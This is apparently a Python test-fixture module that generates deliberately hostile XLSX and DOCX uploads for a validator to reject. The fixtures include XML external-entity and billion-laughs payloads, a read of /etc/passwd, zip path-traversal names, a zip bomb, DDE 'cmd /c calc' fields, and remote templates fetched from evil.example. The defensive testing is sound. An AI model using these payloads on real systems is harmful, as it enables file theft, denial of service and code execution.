"""Workbooks and documents with one thing wrong: in the zip, in a member's name, in the XML, in what it carries."""

import io
import random
import struct
import warnings
import zipfile

from tests.intake.bad_files import SHEET, compound, repacked
from tests.uploads.sound_files import DOCX_MEMBERS, OFFICE, RELATIONS, docx, xlsx

BASES = {"xlsx": (xlsx, SHEET), "docx": (docx, "word/document.xml")}
ENTITY = b"<!DOCTYPE x [%s]>"
PAYLOADS = {
    "billion laughs": ENTITY % (b'<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">'),
    "quadratic entity": ENTITY % (b'<!ENTITY a "' + b"a" * 50_000 + b'">'),
    "entity of a file": ENTITY % b'<!ENTITY a SYSTEM "file:///etc/passwd">',
    "entity of an address": ENTITY % b'<!ENTITY a SYSTEM "http://127.0.0.1:9/x">',
    "parameter entity": ENTITY % b'<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;',
    "outer dtd": b'<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">',
    "doctype in small letters": b"<!doctype x>",
}
XLSX_PARTS = [
    "[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml",
    "xl/theme/theme1.xml", "docProps/core.xml", "docProps/app.xml", "xl/sharedStrings.xml", SHEET,
]  # fmt: skip
NEW_PARTS = [
    "xl/comments1.xml", "xl/drawings/vmlDrawing1.vml", "customXml/item1.xml", "xl/worksheets/_rels/sheet1.xml.rels",
    "xl/calcChain.xml", "xl/x.dat",
]  # fmt: skip
FAR = b"<!--" + b" " * (256 * 1024 - 9) + b"-->"
BAD_NAMES = {
    "climbs": "xl/../../../etc/cron.d/x", "absolute": "/etc/passwd", "drive": "C:/x.xml", "backslash": "xl\\..\\x.xml",
    "nul": "xl/x.xml\0.png", "turned letters": "xl/\u202egnp.exe", "control letter": "xl/a\x07.xml",
    "very long": "xl/" + "a" * 300 + ".xml", "reserved": "xl/CON.xml", "printer": "LPT1", "blank part": "xl//x.xml",
    "dot part": "xl/./x.xml", "star": "xl/*.xml", "no width": "xl/a\u200b.xml",
}  # fmt: skip


def hidden(payload: bytes, member: bytes) -> bytes:
    """The XML with the declaration put behind its head."""
    head, close, rest = member.partition(b"?>") if member.startswith(b"<?xml") else (b"", b"", member)
    return head + close + payload + rest


def part(kind: str, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(BASES[kind][0]())) as archive:
        return archive.read(name) if name in archive.namelist() else b"<x/>"


def changed(kind: str, name: str, content: bytes) -> bytes:
    return repacked({name: content}, BASES[kind][0]())


def named(kind: str, name: str, mode: int = 0) -> bytes:
    held = io.BytesIO(BASES[kind][0]())
    with zipfile.ZipFile(held, "a") as archive:
        entry = zipfile.ZipInfo("x")
        entry.filename, entry.external_attr = name, mode << 16
        archive.writestr(entry, b"/etc/passwd")
    return held.getvalue()


def twice(kind: str, name: str) -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return repacked({}, BASES[kind][0](), extra=[(name, b"<x/>")])


def bomb(kind: str) -> bytes:
    """130 MB of blanks in the place of the sheet or the text: one thousandth as large packed."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name in part_names(kind):
            if name != BASES[kind][1]:
                archive.writestr(name, part(kind, name))
        with archive.open(BASES[kind][1], "w") as stream:
            for _ in range(130):
                stream.write(b" " * 1_000_000)
    return held.getvalue()


def part_names(kind: str) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(BASES[kind][0]())) as archive:
        return archive.namelist()


def central(data: bytes, at: int, value: bytes) -> bytes:
    """The last entry of the directory with other bytes at this place."""
    start = data.rfind(b"PK\x01\x02") + at
    return data[:start] + value + data[start + len(value) :]


def first_local(data: bytes, at: int, value: bytes) -> bytes:
    return data[:at] + value + data[at + len(value) :]


def everywhere(data: bytes, at_central: int, at_local: int, value: bytes) -> bytes:
    """All entries with these bytes, in the directory and before the member."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        places = [entry.header_offset + at_local for entry in archive.infolist()]
        place = archive.start_dir
        for entry in archive.infolist():
            places.append(place + at_central)
            place += 46 + len(entry.filename.encode()) + len(entry.extra) + len(entry.comment)
    whole = bytearray(data)
    for at in places:
        whole[at : at + len(value)] = value
    return bytes(whole)


def wrong_sum(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        places, place = [], archive.start_dir
        for entry in archive.infolist():
            places.append(place + 16)
            place += 46 + len(entry.filename.encode()) + len(entry.extra) + len(entry.comment)
    whole = bytearray(data)
    whole[places[-1]] ^= 0xFF
    return bytes(whole)


def with_comment(data: bytes, comment: bytes) -> bytes:
    return data[:-2] + struct.pack("<H", len(comment)) + comment


def flipped(data: bytes, seed: int) -> bytes:
    chance, whole = random.Random(seed), bytearray(data)  # noqa: S311
    for _ in range(chance.randint(1, 4)):
        whole[chance.randrange(len(whole))] ^= 1 << chance.randrange(8)
    return bytes(whole)


def relation(kind: str, target: str, away: bool = True) -> bytes:
    mode = ' TargetMode="External"' if away else ""
    line = f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return f'<Relationships xmlns="{RELATIONS}">{line}</Relationships>'.encode()


def word(body: str) -> bytes:
    text = DOCX_MEMBERS["word/document.xml"].replace("<w:body>", f"<w:body><w:p><w:r>{body}</w:r></w:p>")
    return changed("docx", "word/document.xml", text.encode())


def of_both() -> dict[str, tuple[str, callable]]:
    """Name → (the name it is sent under, what makes it): refused at both doors."""
    found = {}
    for kind, (base, main) in BASES.items():
        name = f"so-lieu.{kind}"

        def put(what, make, name=name, kind=kind):
            found[f"{kind}: {what}"] = (name, make)

        for what, payload in PAYLOADS.items():
            put(what, lambda k=kind, m=main, p=payload: changed(k, m, hidden(p, part(k, m))))
        for inner in (
            (XLSX_PARTS[:-1] + NEW_PARTS)
            if kind == "xlsx"
            else [n for n in DOCX_MEMBERS if "media" not in n and n != main]
        ):
            put(
                f"doctype in {inner}",
                lambda k=kind, n=inner: changed(k, n, hidden(PAYLOADS["outer dtd"], part(k, n))),
            )
        put(
            "doctype far in",
            lambda k=kind, m=main: changed(k, m, hidden(FAR + PAYLOADS["outer dtd"], part(k, m))),
        )
        for encoding in ("utf-16", "utf-16-be", "utf-32", "cp037", "utf-7"):
            said = b'<?xml version="1.0" encoding="%s"?>' % encoding.encode()
            put(
                f"text in {encoding}",
                lambda k=kind, m=main, e=encoding, s=said: changed(
                    k, m, s + part(k, m) if e in ("cp037", "utf-7") else part(k, m).decode().encode(e)
                ),
            )
        for what, bad in BAD_NAMES.items():
            put(f"name {what}", lambda k=kind, b=bad: named(k, b))
        put("a link", lambda k=kind: named(k, "xl/link.xml", 0o120777))
        put("a device", lambda k=kind: named(k, "xl/device.xml", 0o020666))
        put("one member twice", lambda k=kind, m=main: twice(k, m))
        put("one member twice but for case", lambda k=kind, m=main: twice(k, m.upper()))
        put("a bomb", lambda k=kind: bomb(k))
        put(
            "2,500 members", lambda k=kind, b=base: repacked({f"xl/m/{n}.txt": b"" for n in range(2500)}, b())
        )
        for what, quarter in (("a quarter", 1), ("a half", 2), ("three quarters", 3)):
            put(f"cut after {what}", lambda b=base, q=quarter: b()[: len(b()) * q // 4])
        put("without its last byte", lambda b=base: b()[:-1])
        put("wrong checksum", lambda b=base: wrong_sum(b()))
        put("said to be encrypted", lambda b=base: everywhere(b(), 8, 6, b"\x01\x00"))
        put("packed in another way", lambda b=base: everywhere(b(), 10, 8, b"\x0c\x00"))
        put("packed in an unknown way", lambda b=base: everywhere(b(), 10, 8, b"\x63\x00"))
        put("zip64 sizes without their field", lambda b=base: central(b(), 20, b"\xff" * 8))
        put("a size too small", lambda b=base: central(b(), 20, b"\x01\0\0\0\x01\0\0\0"))
        put("a member beyond the end", lambda b=base: central(b(), 42, b"\xff\xff\xff\x7f"))
        put("two members in one place", lambda b=base: central(b(), 42, b"\0\0\0\0"))
        put("a page behind", lambda b=base: b() + b"<html><script>alert(1)</script></html>")
        put("a page in the comment", lambda b=base: with_comment(b(), b"<html><script>alert(1)</script>"))
        put("another archive behind", lambda b=base: b() + b())
        put(
            "a page before, made up as a member",
            lambda b=base: b"PK\x03\x04<html><script>alert(1)</script>" + b(),
        )
        put("only the end record", lambda: b"PK\x05\x06" + bytes(18))
        put("a text from a member's first letters", lambda: b"PK\x03\x04 la mot tep nen")
        put(
            "macros",
            lambda k=kind: changed(
                k, ("xl" if k == "xlsx" else "word") + "/vbaProject.bin", b"\xd0\xcf\x11\xe0"
            ),
        )
        put(
            "macros by type",
            lambda k=kind: changed(
                k,
                "[Content_Types].xml",
                part(k, "[Content_Types].xml").replace(
                    b"</Types>",
                    b'<Default Extension="x" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
                ),
            ),
        )
        put("macros of 1992", lambda k=kind: changed(k, "xl/macrosheets/sheet1.xml", b"<x/>"))
        put(
            "the main part empty",
            lambda k=kind: (
                changed(k, "xl/workbook.xml" if k == "xlsx" else "[Content_Types].xml", b"")
                if k == "xlsx"
                else repacked({"[Content_Types].xml": None}, docx())
            ),
        )
        put("password", lambda: compound("EncryptedPackage", "EncryptionInfo"))
        put("an old file in a new name", lambda: compound("WordDocument"))
        put("an old file with macros", lambda: compound("Workbook", "_VBA_PROJECT_CUR"))
        put("an old file of zeros", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3000))
    return found


def of_attachments() -> dict[str, tuple[str, callable]]:
    """Documents that would run or carry something on the computer of whoever opens them; the import reads values alone
    and hands nothing on, so these are the other door's matter."""
    x, w = "so-lieu.xlsx", "bien-ban.docx"
    away = "https://evil.example/mau.dotm"
    package = "\x01Ole10Native".encode("utf-16-le")
    dde = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return {
        "a template fetched": (w, lambda: changed("docx", "word/_rels/settings.xml.rels", relation("attachedTemplate", away))),
        "an object fetched": (w, lambda: changed("docx", "word/_rels/document.xml.rels", relation("oleObject", away))),
        "a frame fetched": (w, lambda: changed("docx", "word/_rels/document.xml.rels", relation("frame", away))),
        "an object fetched by mhtml": (w, lambda: changed("docx", "word/_rels/document.xml.rels", relation("oleObject", "mhtml:http://evil.example/x"))),
        "a file carried in an object": (w, lambda: changed("docx", "word/embeddings/oleObject1.bin", compound("x") + package)),
        "a file carried in a workbook": (x, lambda: changed("xlsx", "xl/embeddings/oleObject1.bin", compound("x") + package)),
        "a program carried": (w, lambda: changed("docx", "word/embeddings/cai-dat.exe", b"MZ\x90")),
        "a program called a picture": (w, lambda: changed("docx", "word/media/image2.png", b"MZ\x90" + bytes(99))),
        "a script carried": (x, lambda: changed("xlsx", "xl/media/x.js", b"1")),
        "a document with macros carried": (w, lambda: changed("docx", "word/embeddings/a.docm", docx())),
        "an archive carried": (x, lambda: changed("xlsx", "xl/media/x.zip", xlsx())),
        "a control": (x, lambda: changed("xlsx", "xl/activeX/activeX1.bin", b"1")),
        "a command in a field": (w, lambda: word('<w:instrText xml:space="preserve"> DDEAUTO cmd.exe "/k calc"</w:instrText>')),
        "a command in a simple field": (w, lambda: word('<w:fldSimple w:instr="DDE cmd /c calc"/>')),
        "a command in a link": (x, lambda: changed("xlsx", "xl/externalLinks/externalLink1.xml", dde)),
        "a document and a workbook at once": (w, lambda: changed("docx", "xl/workbook.xml", b"<x/>")),
        "a presentation called a document": (w, lambda: repacked({"word/document.xml": None, "ppt/presentation.xml": b"<x/>"}, docx())),
    }  # fmt: skip


def dde_free_link() -> bytes:
    """A link to another workbook, as offices have many."""
    return b'<externalLink><externalBook><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>'
